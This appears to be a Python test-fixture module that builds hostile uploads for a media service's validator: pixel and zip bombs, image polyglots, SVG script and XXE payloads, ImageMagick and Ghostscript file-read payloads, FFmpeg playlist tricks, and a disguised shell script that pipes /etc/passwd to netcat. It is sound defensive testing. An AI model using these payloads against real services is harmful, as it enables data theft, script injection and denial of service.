def mvg(port: int) -> bytes:
    return (
        "push graphic-context\nviewbox 0 0 640 480\n"
        f"fill 'url(http://127.0.0.1:{port}/mvg.jpg)'\n"
        f"image over 0,0 0,0 'msl:{PASSWD}'\npop graphic-context\n"
    ).encode()


def msl(port: int) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<image>\n'
        f'<read filename="http://127.0.0.1:{port}/msl.png" />\n<read filename="{PASSWD}" />\n'
        '<write filename="/tmp/mediakeep-owned.png" />\n</image>\n'
    ).encode()


def eps(port: int) -> bytes:
    return (
        "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n"
        f"({PASSWD}) (r) file 100 string readstring pop print\n"
        f"(http://127.0.0.1:{port}/ps) run\nshowpage\n%%EOF\n"
    ).encode()


def pdf_in_jpeg() -> bytes:
    pdf = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
        b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    return jpeg_with_segments([_segment(0xFE, pdf)])


def jpeg_zip_polyglot() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.domain)</script>")
    return mediagen.jpeg(32, 24) + out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"


def _refused(file_id: str, filename: str, declared: str, build: Build, **more: Any) -> HostileFile:
    """Refused from the sniffed type: 415 `validation.mime.unsupported`."""
    return HostileFile(file_id, filename, declared, build, **more)


def _undecodable(file_id: str, filename: str, declared: str, build: Build) -> HostileFile:
    """The type is allowed, the bytes do not decode (or declare a bomb): 422."""
    return HostileFile(file_id, filename, declared, build, 422, "media.unprocessable")


def _inert(
    file_id: str, filename: str, declared: str, build: Build, mime: str, **more: Any
) -> HostileFile:
    """A valid image whatever else rides along: stored and only ever served as `mime`."""
    return HostileFile(file_id, filename, declared, build, 201, "", mime, **more)


def _files() -> Iterator[HostileFile]:
    # Pixel and decompression bombs: refused from the header, before any decode.
    yield HostileFile(
        "png-100k-by-100k", "bomb.png", "image/png", lambda _p: png_declaring(100_000, 100_000),
        422, "media.unprocessable", postgres_s3=True,
    )  # fmt: skip
    yield _undecodable(
        "png-max-dimensions", "max.png", "image/png",
        lambda _p: png_declaring(0x7FFFFFFF, 0x7FFFFFFF),
    )  # fmt: skip
    yield _undecodable(
        "jpeg-sof-65500-square", "huge.jpg", "image/jpeg", lambda _p: jpeg_with_sof(65500, 65500)
    )
    # libvips sizes a GIF by its frames: the 65535² screen costs nothing and is kept inert.
    yield _inert(
        "gif-65535-logical-screen", "screen.gif", "image/gif", lambda _p: gif_huge_screen(),
        "image/gif",
    )  # fmt: skip
    yield _undecodable("gif-10000-frames", "frames.gif", "image/gif",
                       lambda _p: gif_with_frames(10_000))  # fmt: skip
    yield _undecodable("webp-16384-canvas", "bomb.webp", "image/webp", lambda _p: webp_bomb())
    # Under the pixel limit, over MEDIA_MAX_DECODE_BYTES: refused from the header (issue 17).
    yield _undecodable(
        "webp-9000-lossless-30-bytes", "bomb.webp", "image/webp", lambda _p: webp_lossless_bomb()
    )
    yield _undecodable("tiff-100k-by-100k", "bomb.tiff", "image/tiff",
                       lambda _p: tiff_with_tags(100_000, 100_000))  # fmt: skip
    yield _refused("svgz-gzip-bomb", "bomb.svgz", "image/svg+xml", lambda _p: svgz_bomb(),
                   svg_allowed="refused")  # fmt: skip
    yield _refused("zip-bomb", "bomb.zip", "application/zip", lambda _p: zip_bomb())
    yield _refused("zip-bomb-as-png", "bomb.png", "image/png", lambda _p: zip_bomb(),
                   postgres_s3=True)  # fmt: skip
    ztxt = _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"\x00" * (64 << 20), 9))
    yield _inert("png-ztxt-64mib", "text.png", "image/png", lambda _p: png_with_chunks(ztxt),
                 "image/png")  # fmt: skip

    # Polyglots: a valid image first, something else after; stored and served as the image.
    yield _inert("gif-js-polyglot", "page.html", "text/html", lambda _p: gif_js_polyglot(),
                 "image/gif")  # fmt: skip
    yield _inert("jpeg-zip-polyglot", "page.zip", "application/zip",
                 lambda _p: jpeg_zip_polyglot(), "image/jpeg")  # fmt: skip
    yield _inert("png-appended-html", "page.html", "text/html",
                 lambda _p: mediagen.png(24, 16) + HTML, "image/png", postgres_s3=True)  # fmt: skip
    yield _inert("pdf-in-jpeg", "doc.pdf", "application/pdf", lambda _p: pdf_in_jpeg(),
                 "image/jpeg")  # fmt: skip
    yield _refused("html-then-png", "pic.png", "image/png",
                   lambda _p: HTML + mediagen.png(24, 16))  # fmt: skip

    # SVG: refused by default; with MEDIA_ALLOW_SVG only ever a download, never rendered.
    svgs: dict[str, Build] = {
        "svg-script": lambda _p: svg("<script>alert(document.domain)</script>"),
        "svg-onload": lambda _p: svg('<rect width="10" height="10"/>').replace(
            b"<svg ", b'<svg onload="alert(document.domain)" '),
        "svg-javascript-href": lambda _p: svg(
            '<a xlink:href="javascript:alert(document.domain)"><rect width="10" height="10"/></a>'),
        "svg-xxe-passwd": lambda _p: svg(
            "<text>&xxe;</text>", f'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file://{PASSWD}">]>\n'),
        "svg-external-href": lambda p: svg(
            f'<image xlink:href="http://127.0.0.1:{p}/x.png" width="10" height="10"/>'
            f'<use xlink:href="http://127.0.0.1:{p}/s.svg#a"/>'),
        "svg-external-dtd": lambda p: svg(
            "<text>&ext;</text>",
            f'<!DOCTYPE svg [<!ENTITY % d SYSTEM "http://127.0.0.1:{p}/x.dtd"> %d;'
            '<!ENTITY ext "x">]>\n'),
        "svg-billion-laughs": lambda _p: billion_laughs(),
    }  # fmt: skip
    for name, build in svgs.items():
        pg = name == "svg-xxe-passwd"
        yield _refused(
            name, "x.svg", "image/svg+xml", build, svg_allowed="attachment", postgres_s3=pg
        )

    # ImageMagick / Ghostscript payloads: no loader here reads them.
    yield _refused("imagemagick-mvg", "exploit.mvg", "image/jpeg", mvg)
    yield _refused("imagemagick-mvg-as-jpg", "exploit.jpg", "image/jpeg", mvg)
    yield _refused("imagemagick-msl", "exploit.msl", "image/png", msl)
    yield _refused("eps-file-read", "x.eps", "application/postscript", eps)
    yield _refused("postscript-as-jpg", "x.jpg", "image/jpeg", eps)

    # FFmpeg playlist tricks: the demuxer is pinned from the magic bytes.
    yield _refused("hls-playlist-as-mp4", "clip.mp4", "video/mp4", hls_playlist, postgres_s3=True)
    yield _undecodable("hls-behind-ftyp", "clip.mp4", "video/mp4", hls_behind_ftyp)
    yield _refused("concat-list-as-mp4", "clip.mp4", "video/mp4", concat_list)
    yield _refused("gab2-avi-playlist", "clip.avi", "video/mp4", gab2_avi)
    # A valid video with its samples inside; the external reference is never followed.
    yield _inert("mp4-dref-passwd", "clip.mp4", "video/mp4",
                 lambda _p: mp4_external_dref(f"file://{PASSWD}"), "video/mp4")  # fmt: skip
    yield _inert("mp4-dref-canary", "clip.mp4", "video/mp4",
                 lambda p: mp4_external_dref(f"http://127.0.0.1:{p}/m"), "video/mp4")  # fmt: skip
    yield _refused("self-referencing-playlist", "clip.mp4", "video/mp4", lambda _p: self_playlist())

    # Absurd metadata: accepted, but never echoed back whole.
    comments = [_segment(0xFE, bytes([65 + i]) * 65533) for i in range(17)]
    yield _inert("jpeg-1mib-comment", "talk.jpg", "image/jpeg",
                 lambda _p: jpeg_with_segments(comments), "image/jpeg")  # fmt: skip
    text = _chunk(b"tEXt", b"Comment\x00" + b"B" * (1 << 20))
    yield _inert("png-1mib-text", "talk.png", "image/png", lambda _p: png_with_chunks(text),
                 "image/png")  # fmt: skip
    # An eXIf chunk has no 64 KiB segment limit: a 1 MiB camera make.
    make = piexif.dump({"0th": {piexif.ImageIFD.Make: b"M" * (1 << 20)}}).removeprefix(
        b"Exif\x00\x00"
    )
    yield _inert("png-1mib-exif-make", "make.png", "image/png",
                 lambda _p: png_with_chunks(_chunk(b"eXIf", make)), "image/png")  # fmt: skip
    exif = exif_with_entries(5000)
    yield _inert("jpeg-5000-exif-tags", "tags.jpg", "image/jpeg",
                 lambda _p: jpeg_with_segments([exif]), "image/jpeg")  # fmt: skip
    # libtiff refuses a directory this size: the TIFF does not decode.
    yield _undecodable("tiff-10000-tags", "tags.tiff", "image/tiff",
                       lambda _p: tiff_with_tags(8, 8, 10_000, b"\x80" * 64))  # fmt: skip
    yield _inert("tiff-ifd-loop", "loop.tiff", "image/tiff", lambda _p: tiff_ifd_loop(),
                 "image/tiff")  # fmt: skip
    yield _undecodable("jpeg-3000-scans", "scans.jpg", "image/jpeg", lambda _p: jpeg_scan_bomb())
    # libmagic wants a frame after the tag: no type.
    yield _refused("mp3-id3-256mib-tag", "song.mp3", "audio/mpeg", lambda _p: id3_huge_size())
    yield _inert("wav-4gib-data-chunk", "tone.wav", "audio/wav", lambda _p: wav_huge_data_size(),
                 "audio/wav")  # fmt: skip
    yield _undecodable("png-zero-width", "zero.png", "image/png", lambda _p: png_declaring(0, 16))
    yield _undecodable("jpeg-sof-zero", "zero.jpg", "image/jpeg", lambda _p: jpeg_with_sof(0, 0))
    yield _undecodable("bmp-negative-width", "neg.bmp", "image/bmp", lambda _p: bmp_header(-64, 16))
    yield _undecodable("bmp-huge-negative-height", "tall.bmp", "image/bmp",
                       lambda _p: bmp_header(2_000_000, -2_000_000))  # fmt: skip

    # Truncated and empty.
    yield _undecodable("png-truncated", "cut.png", "image/png",
                       lambda _p: mediagen.png(64, 48)[:-300])  # fmt: skip
    yield _undecodable("jpeg-truncated", "cut.jpg", "image/jpeg",
                       lambda _p: mediagen.truncated_jpeg(0.5))  # fmt: skip
    # Without an IHDR libmagic names no image type.
    yield _refused("png-signature-only", "sig.png", "image/png", lambda _p: b"\x89PNG\r\n\x1a\n")
    yield _undecodable("mp4-truncated", "cut.mp4", "video/mp4",
                       lambda _p: mediagen.mp4(1.0)[:700])  # fmt: skip
    yield HostileFile("zero-bytes", "empty.png", "image/png", lambda _p: b"", 400,
                      "validation.invalid")  # fmt: skip

    # Extension and declared type say image; the bytes say otherwise.
    yield _refused("elf-as-png", "cat.png", "image/png", lambda _p: elf_header(), postgres_s3=True)
    yield _refused("pe-as-jpg", "cat.jpg", "image/jpeg", lambda _p: pe_header())
    yield _refused("html-as-png", "cat.png", "image/png", lambda _p: HTML)
    yield _refused("shell-script-as-gif", "cat.gif", "image/gif",
                   lambda _p: b"#!/bin/sh\ncat /etc/passwd | nc 127.0.0.1 9\n")  # fmt: skip


def hostile_files() -> list[HostileFile]:
    files = list(_files())
    ids = [item.id for item in files]
    assert len(ids) == len(set(ids)), "file ids must be unique"
    return files


def passwd_markers() -> list[bytes]:
    """Lines of this machine's /etc/passwd that no output may ever contain."""
    try:
        with open(PASSWD, "rb") as handle:
            lines = [line.strip() for line in handle.read().splitlines()]
    except OSError:
        return [b"root:x:0:0"]
    return [line for line in lines if len(line) > 12][:5] or [b"root:x:0:0"]
